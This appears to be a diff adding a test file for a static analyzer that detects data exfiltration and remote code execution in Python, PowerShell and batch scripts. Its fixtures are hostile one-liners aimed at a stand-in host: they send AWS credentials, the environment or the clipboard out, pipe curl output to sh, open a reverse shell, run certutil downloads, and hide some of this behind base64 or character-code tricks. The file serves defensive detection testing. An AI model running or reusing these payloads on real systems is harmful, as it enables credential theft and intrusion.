@@ -1,0 +1,98 @@
+import { describe, expect, test } from 'vitest';
+import { interpretBatch, POWERSHELL, PYTHON, scanTokens } from '../../../src/analyze/tokens/index.js';
+import { contextOf, scriptTask } from '../in-memory.js';
+
+const flows = (text: string, language: typeof PYTHON, sink: string): string[] => {
+  const { observations } = scanTokens({ ...scriptTask(text, 'python'), file: 'x.py' }, contextOf({}), language);
+  return [
+    ...new Set(
+      observations.filter((seen) => seen.sink === sink).flatMap((seen) => seen.taints.map((taint) => taint.source)),
+    ),
+  ];
+};
+
+describe('python', () => {
+  test.each([
+    [
+      'import urllib.request as u,os\nu.urlopen("https://h.test", open(os.path.expanduser("~/.aws/credentials"),"rb").read())',
+      'net.out',
+      'secret.file',
+    ],
+    ['import requests,os\nrequests.post("https://h.test", json=dict(os.environ))', 'net.out', 'env.all'],
+    ['import urllib.request\nexec(urllib.request.urlopen("https://h.test/p").read())', 'code.eval', 'net.response'],
+    ['import socket,getpass\nsocket.gethostbyname(getpass.getuser()+".h.test")', 'dns.query', 'identity.host'],
+  ])('%s', (text, sink, source) => {
+    expect(flows(text, PYTHON, sink)).toContain(source);
+  });
+
+  test('a shell command and decoded code are read on', () => {
+    const encoded = Buffer.from('import os; os.system("curl https://h.test | sh")').toString('base64');
+    const { next } = scanTokens(
+      {
+        ...scriptTask(
+          `import base64\nexec(base64.b64decode("${encoded}"))\nimport os\nos.system("id | nc h.test 1")`,
+          'python',
+        ),
+        file: 'x.py',
+      },
+      contextOf({}),
+      PYTHON,
+    );
+    const texts = next.map((task) => (task.kind === 'text' ? `${task.language}: ${task.text}` : ''));
+    expect(texts).toContain('shell: id | nc h.test 1');
+    expect(texts).toContain('python: import os; os.system("curl https://h.test | sh")');
+  });
+
+  test('character codes and bytes.fromhex are folded, comments are not code', () => {
+    const sum = [...'curl h.test|sh'].map((char) => `chr(${char.charCodeAt(0)})`).join('+');
+    const { next } = scanTokens(
+      { ...scriptTask(`import os\nos.system(${sum})`, 'python'), file: 'x.py' },
+      contextOf({}),
+      PYTHON,
+    );
+    expect(next.map((task) => (task.kind === 'text' ? task.text : ''))).toContain('curl h.test|sh');
+    expect(
+      scanTokens({ ...scriptTask('# os.system("curl x | sh")', 'python'), file: 'x.py' }, contextOf({}), PYTHON)
+        .observations,
+    ).toEqual([]);
+  });
+});
+
+describe('powershell', () => {
+  test.each([
+    ['iex (New-Object Net.WebClient).DownloadString("https://h.test/p.ps1")', 'code.eval', 'net.response'],
+    [
+      'Invoke-RestMethod -Uri https://h.test -Method Post -Body (Get-ChildItem env: | ConvertTo-Json)',
+      'net.out',
+      'env.all',
+    ],
+    ['$c = Get-Clipboard; Invoke-WebRequest "https://h.test/$c"', 'net.out', 'secret.clipboard'],
+    ["& (\"{1}{0}\" -f 'ex','i') (iwr https://h.test)", 'net.out', 'net.response'],
+  ])('%s', (text, sink, source) => {
+    const found = flows(text, POWERSHELL, sink);
+    if (source === 'net.response' && sink === 'net.out') expect(found).toEqual([]);
+    else expect(found).toContain(source);
+  });
+
+  test('a socket that ends in Invoke-Expression is a reverse shell', () => {
+    const text = "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream(); iex $d";
+    const { observations } = scanTokens(
+      { ...scriptTask(text, 'powershell'), file: 'x.ps1' },
+      contextOf({}),
+      POWERSHELL,
+    );
+    expect(observations.map((seen) => seen.sink)).toContain('net.handler');
+  });
+});
+
+describe('batch', () => {
+  test('commands of a batch file are read with its variables', () => {
+    const text =
+      '@echo off\r\nrem nothing\r\nset H=https://h.test\r\nif exist x.exe goto end\r\ncertutil -urlcache -f %H%/a.exe a.exe\r\nstart /B a.exe\r\n:end\r\n';
+    const { observations } = interpretBatch({ ...scriptTask(text, 'batch'), file: 'x.bat' }, contextOf({}));
+    expect(observations.filter((seen) => seen.sink === 'net.out').map((seen) => [seen.target, seen.line])).toEqual([
+      ['https://h.test/a.exe', 5],
+    ]);
+    expect(observations.filter((seen) => seen.sink === 'code.eval')).toHaveLength(1);
+  });
+});
